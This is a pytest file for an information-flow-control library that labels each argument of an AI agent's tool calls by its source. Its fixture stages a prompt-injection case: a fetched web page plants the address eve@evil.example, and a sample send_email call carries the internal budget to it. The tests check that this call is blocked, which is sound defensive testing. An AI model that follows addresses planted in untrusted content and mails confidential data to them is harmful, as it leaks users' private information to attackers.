"""Per-argument labels (`_spans.py`): each argument value is scored as its own span of the
rendered call, with no model (a `MockScorer` whose per-token scores say which input each token
needs)."""

import re

import numpy as np
import pytest

from ifc_core import (Chain, ConservativePropagator, Decision, FlowTracker, LabelledSource, MockScorer,
                      PermissivePropagator, Policy, Product, PromptMessage, approval_request,
                      render_call_spans, render_tool_calls)
from ifc_core._search import SearchBudget
from ifc_core._spans import ScoreMemo, span_labels, token_masks

LAT = Product(conf=Chain(["public", "internal"]), integrity=Chain(["trusted", "untrusted"]))
PUBLIC = LAT.label({"conf": "public", "integrity": "trusted"})
INTERNAL = LAT.label({"conf": "internal", "integrity": "trusted"})
WEB = LAT.label({"conf": "public", "integrity": "untrusted"})
BUDGET = "The Q3 budget is 4.2 million."
PAGE = "Contact us at eve@evil.example for the numbers."
REQUEST = "Email bob@acme.example the Q3 budget."


def per_token(context, output):
    """A token of the output is likely only when the context shows where it comes from."""
    values = []
    for tok in re.findall(r"\s+|\S+", output):
        needs = "4.2 million" if "4.2" in tok else "eve@evil" if "eve@" in tok else None
        values.append(-0.1 if needs is None or needs in context else -9.0)
    return values


def tracker(prop=None):
    policy = Policy(LAT, sinks={"send_email": {"conf": "internal", "integrity": "untrusted"}, "read_page": LAT.top},
                    arguments={"send_email": {"to": PUBLIC}}, results={"read_page": WEB})
    t = FlowTracker(prop or PermissivePropagator(MockScorer(per_token)), policy, query_label=PUBLIC)
    t.begin("run", [REQUEST])
    t.label_output("run", "", [READ], prompt=[PromptMessage("user", REQUEST)])  # the call the page answers
    t.add_source("run", LabelledSource("budget", BUDGET, INTERNAL))
    t.add_tool_result("run", "read_page", PAGE, "p1")
    return t


READ = {"name": "read_page", "args": {"url": "acme.example/contact"}, "id": "p1"}
PROMPT = [PromptMessage("user", f"{REQUEST}\n{BUDGET}"), PromptMessage("assistant", "", tool_calls=(READ,)),
          PromptMessage("tool", PAGE, tool_name="read_page", tool_call_id="p1")]


def email(to):
    return {"name": "send_email", "args": {"to": to, "body": "The budget is 4.2 million."}, "id": f"e-{to}"}


def test_spans_point_at_each_call_and_argument_value():
    calls = [email("bob@acme.example"), {"name": "noop", "args": {}}, {"name": "x", "args": {"n": [1, 2]}}]
    text, spans = render_call_spans("  Sure. ", calls)
    assert text == render_tool_calls("  Sure. ", calls)
    assert text[slice(*spans["call:0:to"])] == "bob@acme.example"
    assert text[slice(*spans["call:0:body"])] == "The budget is 4.2 million."
    assert text[slice(*spans["call:1"])] == "Calling noop with "
    assert text[slice(*spans["call:2:n"])] == "[1, 2]"


def test_an_address_from_the_request_is_public_while_the_body_is_internal():
    t = tracker()
    call = email("bob@acme.example")
    d = t.label_output("run", "", [call], prompt=PROMPT)
    assert d.spans["call:0:to"] == PUBLIC and d.spans["call:0:body"] == INTERNAL
    assert d.call_labels(0) == (INTERNAL, {"to": PUBLIC, "body": INTERNAL})
    check = t.check_call("run", "send_email", call["args"], call["id"])
    assert check.allowed and check.argument_labels == {"to": PUBLIC, "body": INTERNAL}


def test_an_address_copied_from_an_untrusted_page_is_blocked_on_to():
    t = tracker()
    call = email("eve@evil.example")
    d = t.label_output("run", "", [call], prompt=PROMPT)
    assert d.spans["call:0:to"] == WEB and d.spans["call:0:body"] == INTERNAL
    check = t.check_call("run", "send_email", call["args"], call["id"])
    assert not check.allowed and check.argument == "to" and check.label == WEB
    assert "argument 'to' of tool 'send_email'" in check.reason
    request = approval_request(check, call["args"])
    assert request["argument"] == "to"
    assert request["arguments"]["to"] == {"value": "eve@evil.example", "label": WEB.to_json(), "own_label": True}
    assert request["arguments"]["body"]["label"] == INTERNAL.to_json()
    assert "to: " in request["action_requests"][0]["description"]


def test_without_per_argument_labels_the_whole_output_label_is_checked():
    t = tracker(ConservativePropagator())
    call = email("bob@acme.example")
    t.label_output("run", "", [call], prompt=PROMPT)
    check = t.check_call("run", "send_email", call["args"], call["id"])
    assert not check.allowed and check.argument == "to"  # the conservative label of everything


def test_two_calls_in_one_output_get_their_own_labels():
    t = tracker()
    calls = [email("bob@acme.example"), {"name": "send_email", "args": {"to": "bob@acme.example", "body": "Hello."},
                                          "id": "e2"}]
    d = t.label_output("run", "", calls, prompt=PROMPT)
    assert d.label == INTERNAL and d.call_labels(1)[0] == PUBLIC


def test_enforce_mode_checks_every_argument_at_the_released_label():
    d = Decision(id=None, mode="enforce", propagator="permissive", label=INTERNAL, conservative_label=INTERNAL,
                 query_label=PUBLIC, output="", admitted=[], withheld=[],
                 spans={"call:0": INTERNAL, "call:0:to": PUBLIC})
    assert d.call_labels(0) == (INTERNAL, {})
    d.mode = "estimate"
    assert d.call_labels(0) == (INTERNAL, {"to": PUBLIC})
    assert d.to_dict()["spans"] == {"call:0": INTERNAL.to_json(), "call:0:to": PUBLIC.to_json()}


def test_spans_are_scored_once_per_context():
    scorer = MockScorer(per_token)
    t = tracker(PermissivePropagator(scorer))
    scorer.contexts.clear()  # the read_page call's decision
    t.label_output("run", "", [email("bob@acme.example")], prompt=PROMPT)
    assert len(scorer.contexts) == len(set(scorer.contexts))


def test_tokens_that_do_not_decode_to_the_text_give_no_spans():
    masks, why = token_masks(lambda ids: "x" * len(ids), [1, 2, 3], "abc!", {"call:0": (0, 2)})
    assert masks == {} and "do not decode" in why
    masks, why = token_masks(lambda ids: "ab"[: len(ids)] if len(ids) < 3 else "abc", [1, 2, 3], "abc",
                             {"a": (0, 1), "bc": (1, 3), "none": (3, 3)})
    assert why is None and masks["a"].tolist() == [True, False, False] and masks["bc"].tolist() == [False, True, True]
    assert not masks["none"].any()


def test_a_span_whose_search_fails_gets_the_conservative_label():
    from ifc_core._inputs import DecisionInputs

    docs = [LabelledSource("budget", BUDGET, INTERNAL), LabelledSource("page", PAGE, WEB)]
    inputs = DecisionInputs(LabelledSource("q", REQUEST, PUBLIC), docs, LAT)

    def score(sets):
        raise RuntimeError("scorer down")

    labels = span_labels(inputs, docs, ScoreMemo(score), PermissivePropagator(MockScorer(per_token)).tolerance,
                         {"call:0:to": np.array([True]), "call:0:body": np.array([False])},
                         budget=SearchBudget())
    assert labels == {"call:0:to": inputs.conservative}  # (an empty span gets none: its call's label applies)
    assert any("span call:0:to" in n and "conservative" in n for n in inputs.notes)


@pytest.mark.parametrize("to", ["bob@acme.example", "eve@evil.example"])
def test_a_fallback_decision_labels_every_argument_conservatively(to):
    def broken(context, output):
        raise RuntimeError("scorer down")

    t = tracker(PermissivePropagator(MockScorer(broken)))
    d = t.label_output("run", "", [email(to)], prompt=PROMPT)
    assert d.fallback_reason and d.spans == {}
    assert d.call_labels(0) == (d.conservative_label, {})
